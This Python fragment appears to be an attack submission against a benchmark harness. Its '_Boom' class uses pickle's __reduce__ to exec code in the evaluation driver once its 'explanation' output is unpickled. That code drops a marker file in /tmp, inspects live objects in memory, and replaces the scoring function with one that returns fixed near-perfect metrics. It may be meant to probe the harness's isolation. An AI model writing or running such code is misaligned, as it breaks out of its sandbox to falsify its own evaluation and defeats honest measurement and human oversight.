class _Boom:
    def __reduce__(self):
        code = (
            "import gc,zoo.kinds.samples as p, zoo.bench.execute as e\n"
            "open('/tmp/zoo-attack-DRIVER_WAS_HERE','w').write(str(sum(type(o).__name__=='Domain' for o in gc.get_objects())))\n"
            "p.metrics=lambda s,y: {'accuracy':0.999,'balanced_accuracy':0.999,'f1_macro':0.999,'auroc':0.999,'nll':0.0,'ece':0.0}\n"
        )
        return (exec, (code,))


class Pickle(Nearest):
    """An explanation whose unpickling runs code in the driver, which holds the labels and scores."""

    def improve(self, task, honest):
        class D(dict):
            pass

        self.explanation_ = [_Boom()]
        return honest
